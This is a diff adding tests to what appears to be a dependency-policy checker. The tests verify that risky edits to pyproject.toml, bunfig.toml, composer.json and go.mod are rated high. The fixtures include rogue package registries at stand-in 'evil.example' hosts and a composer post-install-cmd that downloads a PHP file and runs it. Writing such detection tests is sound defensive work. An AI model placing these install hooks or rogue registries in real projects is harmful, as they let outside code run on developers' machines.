@@ -82,6 +82,23 @@ const BUN_LOCK = (registry: string) => `{
 }
 `;
 
+const PYPROJECT = `[tool.poetry]
+name = "app"
+version = "0.1.0"
+description = "app"
+
+[tool.poetry.dependencies]
+python = "^3.12"
+requests = "^2.32"
+
+[build-system]
+requires = ["poetry-core>=1.9.0"]
+build-backend = "poetry.core.masonry.api"
+`;
+
+const COMPOSER_JSON = (scripts: Record<string, string> = {}) =>
+  `${JSON.stringify({ name: 'acme/app', require: { php: '^8.2', 'monolog/monolog': '^3.7' }, scripts: { test: 'phpunit', ...scripts } }, null, 4)}\n`;
+
 let repo: TestRepo; // no policy: the built-in baseline (medium default, public registries allowed)
 let restore: () => void;
 let n = 0;
@@ -96,6 +113,8 @@ beforeAll(async () => {
   await repo.write('Gemfile.lock', GEMFILE_LOCK('https://rubygems.org/'));
   await repo.write('go.mod', GO_MOD());
   await repo.write('bun.lock', BUN_LOCK(''));
+  await repo.write('pyproject.toml', PYPROJECT);
+  await repo.write('composer.json', COMPOSER_JSON());
   await repo.commit('base');
 });
 
@@ -161,5 +180,37 @@ describe('lockfiles of other ecosystems under the baseline policy', () => {
     });
     for (const p of ['bun.lock', 'Gemfile.lock', 'Cargo.lock']) expect(file(good, p)).toMatchObject({ tier: 'medium', decision: 'allow' });
     expect(good.verdict).toBe('allow');
+  });
+});
+
+describe('configuration and manifests of other ecosystems under the baseline policy', () => {
+  test("E6: a [[tool.poetry.source]] hidden after a literal string with an apostrophe is read (the strict TOML reader) and is high", async () => {
+    const hidden = PYPROJECT.replace('description = "app"', "description = '''it's the app'''").replace(
+      '[tool.poetry.dependencies]',
+      '[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple/"\npriority = "primary"\nnote = \'\'\'x\'\'\'\n\n[tool.poetry.dependencies]',
+    );
+    const e = await scenario((r) => r.write('pyproject.toml', hidden));
+    expect(file(e, 'pyproject.toml').tier).toBe('high');
+    expect(why(e, 'pyproject.toml')).toMatch(/"tool\.poetry\.source\[0\]\.url" to "https:\/\/pypi\.evil\.example\/simple\/": .*host "pypi\.evil\.example" is not in the network allow list/);
+  });
+
+  test('E7: a bunfig.toml the strict reader refuses is high, naming the parse error', async () => {
+    const e = await scenario((r) => r.write('bunfig.toml', '[install]\nregistry = "https://registry.npmjs.org/"\nregistry = "https://npm.evil.example/"\n'));
+    expect(file(e, 'bunfig.toml').tier).toBe('high');
+    expect(why(e, 'bunfig.toml')).toMatch(/could not be parsed as TOML \("line 3, column 12: duplicate key \\"registry\\""\)/);
+  });
+
+  test('E8: a composer.json post-install-cmd is high (install-time code execution); a version bump is not', async () => {
+    const bad = await scenario((r) => r.write('composer.json', COMPOSER_JSON({ 'post-install-cmd': 'php -r "copy(\'https://x.evil.example/p\', \'p.php\');" && php p.php' })));
+    expect(file(bad, 'composer.json').tier).toBe('high');
+    expect(why(bad, 'composer.json')).toMatch(/adds the script scripts\.post-install-cmd = .*composer runs it on the "post-install-cmd" event/);
+    const good = await scenario((r) => r.write('composer.json', COMPOSER_JSON().replace('^3.7', '^3.8')));
+    expect(file(good, 'composer.json')).toMatchObject({ tier: 'medium', decision: 'allow' });
+  });
+
+  test('E9: a go.mod toolchain line (GOTOOLCHAIN=auto downloads and runs it) is high', async () => {
+    const e = await scenario((r) => r.write('go.mod', GO_MOD().replace('go 1.22\n', 'go 1.22\n\ntoolchain go1.24.2\n')));
+    expect(file(e, 'go.mod').tier).toBe('high');
+    expect(why(e, 'go.mod')).toMatch(/line 5: toolchain "go1\.24\.2" \(new\): go 1\.21 and later download and run this toolchain/);
   });
 });
